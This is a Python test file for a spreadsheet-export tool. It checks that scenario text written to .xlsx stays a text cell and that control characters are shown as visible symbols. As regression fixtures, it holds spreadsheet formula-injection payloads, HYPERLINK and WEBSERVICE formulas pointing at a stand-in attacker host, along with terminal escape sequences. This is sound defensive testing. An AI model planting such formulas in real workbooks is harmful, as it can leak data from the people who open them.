"""All free text into .xlsx goes through roi_xl.io.cell_text: a text cell, never a formula.

Repro (issue 14, item 2): a scenario's ``item = "=HYPERLINK(...)"``,
``notes = "=WEBSERVICE(...)"`` and ``[[gains]] name = "=1+1"`` were written by
``roi-xl case`` as formula cells (Costs!B6, Costs!H6, Gains!A18). Item 8: an
ESC character in a cell written to .xlsx was a traceback.
"""

import csv
import io
import re

import openpyxl
from hypothesis import given, settings
from hypothesis import strategies as st

from roi_xl.cli import main
from roi_xl.data.scenario import parse_scenario
from roi_xl.io.cell_text import put, text_value
from roi_xl.office.recalc import convert
from roi_xl.workbooks.templates import build_template

# Any character a UTF-8 file can hold (no lone surrogates), biased to the hostile ones.
text = st.text(
    alphabet=st.one_of(st.sampled_from("=+-@\t\r\n\x1b\x00\"'()A1 "), st.characters(codec="utf-8")),
    max_size=40,
)


def _saved(workbook):
    buffer = io.BytesIO()
    workbook.save(buffer)
    return openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))


def _as_xml_reads_it(value):
    # XML turns a line break written as CR or CR LF into LF when it is read back.
    return re.sub(r"\r\n?", "\n", value)


@given(text)
def test_any_text_is_a_text_cell_with_its_characters(value):
    book = openpyxl.Workbook()
    put(book.active["A1"], value)
    cell = _saved(book).active["A1"]
    if value == "":
        assert cell.value is None  # an empty text is an empty cell
        return
    assert cell.data_type == "s"
    assert cell.value == _as_xml_reads_it(text_value(value))


def test_control_characters_become_visible_symbols():
    # by hand: ESC (0x1b) -> U+241B, NUL -> U+2400; tab, CR, LF are legal XML and kept
    assert text_value("a\x1b[31m\x00b\tc") == "a\u241b[31m\u2400b\tc"


def _toml(value):
    """A TOML basic string: backslash, quote and control characters escaped."""
    escaped = "".join(
        f"\\u{ord(c):04x}" if ord(c) < 0x20 or ord(c) == 0x7F or c in '"\\' else c for c in value
    )
    return f'"{escaped}"'


def _scenario(item, notes, gain):
    return (
        f'[[costs]]\ncategory = "Technology"\nitem = {_toml(item)}\n'
        f"notes = {_toml(notes)}\nyears = [1, 2, 3]\n"
        f"[[gains]]\nname = {_toml(gain)}\ngross = 5\n"
    )


def _table_cell(sheet, table, column):
    """The first data cell of a table's column, found by its header (not a fixed address)."""
    ref = sheet.tables[table].ref
    first, _ = ref.split(":")
    header_row = sheet[first].row
    for cell in sheet[header_row]:
        if cell.value == column:
            return sheet.cell(header_row + 1, cell.column)
    raise AssertionError(f"{table} has no column {column!r}")


def _text_cells(book):
    """Cost item and notes of the first cost line, name of the first gain line."""
    return [
        _table_cell(book["Costs"], "CostLines", "Item"),
        _table_cell(book["Costs"], "CostLines", "Notes"),
        _table_cell(book["Gains"], "GainLines", "Gain line"),
    ]


def test_case_keeps_formula_looking_scenario_text_as_text(tmp_path, capsys):
    item = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    notes = '=WEBSERVICE("http://attacker.example/")'
    gain = "=1+1"
    scenario = tmp_path / "evil.toml"
    scenario.write_text(_scenario(item, notes, gain))
    out = tmp_path / "evil.xlsx"
    assert main(["case", str(scenario), "-o", str(out)]) == 0
    book = openpyxl.load_workbook(out)
    cells = _text_cells(book)
    assert [c.value for c in cells] == [item, notes, gain]
    assert [c.data_type for c in cells] == ["s", "s", "s"]
    # LibreOffice opens it and shows the text, not a computed formula
    recalculated = openpyxl.load_workbook(convert([out], tmp_path / "lo")[0], data_only=True)
    shown = [recalculated[c.parent.title][c.coordinate] for c in cells]
    assert [c.value for c in shown] == [item, notes, gain]


@settings(max_examples=6)
@given(item=text, notes=text, gain=text)
def test_no_scenario_text_ever_becomes_a_formula(item, notes, gain):
    _, fill = parse_scenario(_scenario(item, notes, gain))
    book = _saved(build_template("roi_business_case", fill))
    for cell, value in zip(_text_cells(book), (item, notes, gain or None), strict=True):
        assert cell.data_type != "f"
        if value:
            assert cell.value == _as_xml_reads_it(text_value(value))


def test_escape_character_in_a_touch_export_is_written_visibly(tmp_path, capsys):
    source = tmp_path / "touches.csv"
    with source.open("w", newline="") as handle:
        csv.writer(handle).writerows(
            [
                ["Journey", "Touch Time", "Channel", "Conversion Value"],
                ["j\x1b1", "2024-01-01", "Chat\x1b]0;title\x07", "10"],
            ]
        )
    out = tmp_path / "out.xlsx"
    assert main(["attribute", str(source), "--support-channels", "Chat", "-o", str(out)]) == 0
    err = capsys.readouterr().err
    # by hand: the journey's ESC, the channel's ESC and BEL on the Credits sheet, and the
    # channel's two again on the By channel sheet
    assert "5 control characters" in err and "Traceback" not in err
    sheet = openpyxl.load_workbook(out)["Credits"]
    assert sheet["A2"].value == "j\u241b1" and sheet["C2"].value == "Chat\u241b]0;title\u2407"
